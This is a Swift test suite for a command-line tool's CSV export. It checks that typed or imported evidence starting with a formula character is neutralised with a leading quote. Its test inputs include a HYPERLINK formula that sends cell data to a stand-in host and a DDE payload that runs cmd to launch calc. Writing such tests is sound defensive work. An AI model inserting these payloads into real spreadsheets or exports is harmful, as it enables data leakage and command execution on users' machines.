import Foundation
import SpiegelTestSupport
import Testing

/// Text typed or imported that a spreadsheet would run as a formula reaches the CSV as text.
@Suite("CSV exports and formulas (end to end)")
struct CSVExportTests: CLIWorkspace {
    let folder: URL
    let environment: [String: String]
    let formula = "=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")"

    init() throws {
        (folder, environment) = try Self.freshWorkspace()
        try makeTwoSessions()
    }

    @Test("typed evidence that starts a formula is exported with a quote in front, numbers as numbers")
    func typedEvidence() throws {
        try spiegel(["note", "2:00", "1a", "+", formula, "--session", "1", "--rater", "S01", "--role", "supervisor"])
        try spiegel(["note", "2:30", "1a", "-", "@SUM(1+1)", "--session", "1", "--rater", "S01", "--role", "supervisor"])
        let csv = try spiegel(["export", "--evidence"]).stdout
        #expect(csv.contains(",\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"klik\"\")\"\r\n"), "\(csv)")
        #expect(csv.contains(",\"'@SUM(1+1)\"\r\n"))
        #expect(!csv.contains(",=") && !csv.contains(",@"))
        let semicolons = try spiegel(["export", "--evidence", "--delimiter", ";"]).stdout
        #expect(semicolons.contains(";\"'=HYPERLINK("))
    }

    @Test("evidence imported from a rating file is neutralised the same way")
    func importedEvidence() throws {
        try spiegel(["note", "2:00", "1a", "+", "Gewone tekst", "--session", "1", "--rater", "S01", "--role", "supervisor"])
        let file = folder.appending(path: "s01.xml")
        try spiegel(["rating", "export", "--session", "1", "--rater", "S01", "--role", "supervisor", "-o", file.path])
        let xml = try String(contentsOf: file, encoding: .utf8)
        #expect(xml.contains("Gewone tekst"))
        try xml.replacingOccurrences(of: "Gewone tekst", with: "+cmd|' /C calc'!A0").write(to: file, atomically: true, encoding: .utf8)
        let other = folder.appending(path: "ander.sqlite").path
        let imported = try SpiegelBinary.run(
            ["rating", "import", file.path, "--store", other], in: folder, environment: environment)
        #expect(imported.status == 0, "\(imported.stderr)")
        let csv = try SpiegelBinary.run(["export", "--evidence", "--store", other], in: folder, environment: environment).stdout
        #expect(csv.contains(",\"'+cmd|' /C calc'!A0\"\r\n"), "\(csv)")
    }
}
